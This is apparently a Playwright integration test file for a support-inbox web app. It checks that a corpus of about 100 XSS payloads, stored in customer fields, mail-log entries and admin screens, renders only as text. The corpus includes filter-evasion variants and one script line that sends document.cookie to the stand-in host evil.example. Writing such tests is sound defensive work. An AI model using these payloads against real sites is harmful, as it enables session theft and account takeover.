"""What customers type is only ever text: a corpus of markup and script payloads, stored in the
customer-controlled fields (message text, name, product, order reference), rendered on the list,
on every thread screen and on each customer's page in Chromium (100 payloads, 24 threads: the run stays one list page). No dialog opens, no element is injected, the CSP reports
nothing, the page never navigates away, and each text reads back exactly as typed. The same corpus
is placed in what mail, mailboxes and admins write (the mail log's sender, subject, error and
set-aside name; mailbox names, server fields and last errors; contact names and descriptions;
blocked senders; saved replies) and rendered on the mail log and the admin screens."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import expect

from tests.integration.browser import Tab
from tests.integration.page_helpers import row, signed_in, tag
from tests.integration.page_seed import seed

pytestmark = [pytest.mark.stack, pytest.mark.browser]

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href=javascript:alert(1)>click</a>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>@import 'javascript:alert(1)';</style>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "javascript:alert(1)",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "&lt;img src=x onerror=alert(1)&gt;",
    '<img src="x" onerror="&#97;lert(1)">',
    "<marquee onstart=alert(1)>x</marquee>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<base href=javascript:alert(1)//>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x:x onerror=alert`1`>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<div style="background:url(javascript:alert(1))">x</div>',
    "\u202e<script>alert(1)</script>",
    "<x contenteditable onblur=alert(1)>lose focus</x>",
    '<img src=1 onload=alert(1)>',
    '<audio src=x onerror=alert(1)>',
    '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
    '<svg><set onbegin=alert(1) attributeName=x to=1>',
    '<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>x</text></a></svg>',
    '<svg><use href=data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x></svg>',
    '<math href=javascript:alert(1)>x</math>',
    '<isindex action=javascript:alert(1) type=image>',
    '<select autofocus onfocus=alert(1)>',
    '<textarea autofocus onfocus=alert(1)>x</textarea>',
    '<keygen autofocus onfocus=alert(1)>',
    '<button onclick=alert(1)>x</button>',
    '<div onmouseover=alert(1)>x</div>',
    '<div onpointerenter=alert(1)>x</div>',
    '<a onfocus=alert(1) autofocus tabindex=1 href=#>x</a>',
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    '<iframe src=data:text/html,<script>alert(1)</script>></iframe>',
    '<object data=data:text/html,<script>alert(1)</script>></object>',
    '<link rel=import href=data:text/html,<script>alert(1)</script>>',
    '<link rel=stylesheet href=javascript:alert(1)>',
    '<style>*{background:url(javascript:alert(1))}</style>',
    '<style onload=alert(1)></style>',
    '<table background=javascript:alert(1)>',
    '<img dynsrc=javascript:alert(1)>',
    '<img lowsrc=javascript:alert(1)>',
    '<bgsound src=javascript:alert(1)>',
    '<frameset onload=alert(1)>',
    '<svg/onload=alert(1)>',
    '<img/src=x/onerror=alert(1)>',
    '<img src=x onerror=alert&#40;1&#41;>',
    '<img src=x onerror=\\u0061lert(1)>',
    "<img src=x onerror=eval(atob('YWxlcnQoMSk='))>",
    "<img src=x onerror=window['al'+'ert'](1)>",
    '<img src=x onerror=top[/al/.source+/ert/.source](1)>',
    "<img src=x onerror=import('data:text/javascript,alert(1)')>",
    '<script src=data:text/javascript,alert(1)></script>',
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    '<script type=module>alert(1)</script>',
    '<ScRiPt>alert(1)</sCrIpT>',
    '<script/>alert(1)</script>',
    '%3Cscript%3Ealert(1)%3C/script%3E',
    '&#60;script&#62;alert(1)&#60;/script&#62;',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
    '<!--<img src=--><img src=x onerror=alert(1)//>',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<!DOCTYPE html><script>alert(1)</script>',
    '</script><script>alert(1)</script>',
    '</style><script>alert(1)</script>',
    '--><script>alert(1)</script>',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '" autofocus onfocus="alert(1)',
    'javascript:/*--></title></style></textarea></script><svg/onload=\'+/"/+/onmouseover=1/+/[*/[]/+alert(1)//\'>',
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=vbscript:msgbox(1)>x</a>',
    '<form action=javascript:alert(1)><input type=submit></form>',
    '<input type=image src=x onerror=alert(1)>',
    '<portal src=javascript:alert(1)></portal>',
    "{{7*7}}<div ng-app>{{constructor.constructor('alert(1)')()}}</div>",
]
THREADS = 24  # one page of the list (25 rows)
# The page's own <details> (the mailbox form, a message's original) carry a test id; injected ones cannot.
INJECTED = "main script, main img, main iframe, main object, main embed, main svg, main math, main video, main marquee, main details:not([data-testid]), main input[autofocus], main [onerror], main [onload], main [onfocus], main a[href^='javascript'], main a[href^='data']"


def _spec(i: int, marker: str) -> dict[str, Any]:
    n = len(PAYLOADS)
    return {
        "email": f"xss-{marker}-{i}@example.com",
        "text": " ".join(PAYLOADS[j] for j in range(i, n, THREADS)),  # every payload in some thread's text
        "customer_name": PAYLOADS[(i + 12) % n],
        "product": PAYLOADS[(i + 24) % n],
        "order_ref": PAYLOADS[(i + 6) % n][:64],
        "language": "en",
    }


def test_the_xss_corpus_is_shown_as_text_on_the_list_and_the_thread_screens(stack: dict[str, Any], open_page: Callable[..., Tab]) -> None:
    marker = tag()
    specs = [_spec(i, marker) for i in range(THREADS)]
    assert {p for s in specs for p in PAYLOADS if p in s["text"]} == set(PAYLOADS)  # every payload is rendered
    numbers = seed(stack, specs)
    tab = open_page()
    dialogs: list[str] = []
    tab.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page = signed_in(tab, stack, "admin")
    origin = page.url.split("#")[0]

    for number, spec in zip(numbers, specs, strict=True):
        expect(row(page, number).get_by_test_id("thread-customer")).to_have_text(spec["customer_name"])
    assert page.locator(INJECTED).count() == 0

    for number, spec in zip(numbers, specs, strict=True):
        page.evaluate("(n) => { location.hash = `#/threads/${n}`; }", number)
        expect(page.get_by_test_id("thread-title")).to_have_text(f"Thread #{number}")
        expect(page.get_by_test_id("message-text").first).to_have_text(spec["text"])
        expect(page.get_by_test_id("message-author").first).to_have_text(spec["customer_name"])
        expect(page.get_by_test_id("customer-block")).to_contain_text(spec["product"])
        assert page.locator(INJECTED).count() == 0, spec
    # The customer's page (#/customers/<address>): the thread's preview and order reference.
    for number, spec in zip(numbers, specs, strict=True):
        page.evaluate("(e) => { location.hash = `#/customers/${encodeURIComponent(e)}`; }", spec["email"])
        thread = page.get_by_test_id("customer-thread")
        expect(thread).to_have_count(1)
        expect(thread).to_have_attribute("data-number", str(number))
        preview = page.get_by_test_id("customer-thread-preview").text_content() or ""
        assert preview and " ".join(spec["text"].split()).startswith(" ".join(preview.rstrip("…").split())), (preview, spec)
        assert page.locator(INJECTED).count() == 0, spec
    page.wait_for_timeout(300)  # a deferred handler (onfocus, ontoggle) would have fired by now
    assert dialogs == [] and page.url.split("#")[0] == origin
    assert tab.problems() == []


# --- the mail log and the admins' screens: what mail, mailboxes and admins wrote ----------------


def _texts(page: Any, testid: str) -> list[str]:
    return [text or "" for text in page.get_by_test_id(testid).all_text_contents()]


def _clean_screen(page: Any, where: str) -> None:
    assert page.locator(INJECTED).count() == 0, where


def test_the_xss_corpus_is_shown_as_text_on_the_mail_log_and_the_admin_screens(stack: dict[str, Any], open_page: Callable[..., Tab]) -> None:
    """Sender, subject, error and set-aside name on the mail log; mailbox names, server fields and
    last errors, contact names and descriptions, blocked senders and saved replies on the admins'
    screens. Seeded with the store directly (one child process), five page loads in all."""
    from tests.integration import admin_seed

    marker = tag()
    seeded = admin_seed.run(stack, "seed", marker, PAYLOADS)
    shown_in_log = {p for e in seeded["log"] for p in (e["sender"], e["subject"], e["detail"])}
    assert shown_in_log == set(PAYLOADS)  # every payload is on the mail log
    tab = open_page()
    dialogs: list[str] = []
    tab.page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    try:
        page = signed_in(tab, stack, "admin", "#/mail-log")
        origin = page.url.split("#")[0]
        expect(page.get_by_test_id("mail-log-entry").first).to_be_visible()
        senders, subjects = _texts(page, "mail-log-sender"), _texts(page, "mail-log-subject")
        details = _texts(page, "mail-log-detail")
        for entry in seeded["log"]:
            assert entry["sender"] in senders and entry["subject"] in subjects, entry
            if entry["outcome"] == "failed":
                assert entry["detail"] in details, entry
            elif entry["outcome"] == "skipped":
                assert any(d.endswith(entry["detail"]) for d in details), entry
        _clean_screen(page, "mail log")
        # A set-aside mail whose name is a payload: its retry goes to an encoded path, its refusal is text.
        failed = page.get_by_test_id("mail-log-entry").filter(has=page.get_by_test_id("mail-log-retry"))
        first_failed = next(e for e in seeded["log"] if e["outcome"] == "failed")
        aside = failed.filter(has=page.get_by_test_id("mail-log-subject").get_by_text(first_failed["subject"], exact=True)).first
        aside.get_by_test_id("mail-log-retry").click()
        expect(aside.get_by_test_id("mail-log-action-status")).not_to_be_empty()
        _clean_screen(page, "mail log after a retry")

        page.evaluate("() => { location.hash = '#/'; }")  # the list screen's admin panels: the mailboxes
        mailboxes = page.get_by_test_id("mailbox")
        expect(mailboxes.filter(has=page.get_by_test_id("mailbox-name").get_by_text(seeded["mailboxes"][0]["name"], exact=True))).to_have_count(1)
        names = _texts(page, "mailbox-name")
        assert all(box["name"] in names for box in seeded["mailboxes"])
        errors = " ".join(_texts(page, "mailbox-errors"))
        assert all(PAYLOADS[k % len(PAYLOADS)] in errors for k in range(2 * 13 * len(seeded["mailboxes"]))), "every mailbox error is shown"
        _clean_screen(page, "mailboxes")

        page.evaluate("() => { location.hash = '#/contacts'; }")
        expect(page.get_by_test_id("contact-row").filter(has_text=seeded["contacts"][0]["description"]).first).to_be_visible()
        contact_names, descriptions = _texts(page, "contact-name"), _texts(page, "contact-description")
        assert all(c["name"] in contact_names and c["description"] in descriptions for c in seeded["contacts"])
        _clean_screen(page, "contacts")

        page.evaluate("() => { location.hash = '#/blocked'; }")
        expect(page.get_by_test_id("blocked-entry").first).to_be_visible()
        blocked = _texts(page, "blocked-entry")
        assert all(f"{p} {marker}".lower() in (b.lower() for b in blocked) for p in PAYLOADS)
        _clean_screen(page, "blocked senders")

        page.evaluate("() => { location.hash = '#/saved-replies'; }")
        expect(page.get_by_test_id("saved-item").first).to_be_visible()
        titles = _texts(page, "saved-item-title")
        assert all(f"{marker} {p}" in titles for p in PAYLOADS)
        _clean_screen(page, "saved replies")

        page.wait_for_timeout(300)  # a deferred handler (onfocus, ontoggle) would have fired by now
        assert dialogs == [] and page.url.split("#")[0] == origin
        assert tab.problems(r"status of 4\d\d .*/v1/mail-log/set-aside/") == []
    finally:
        admin_seed.run(stack, "clean", marker)
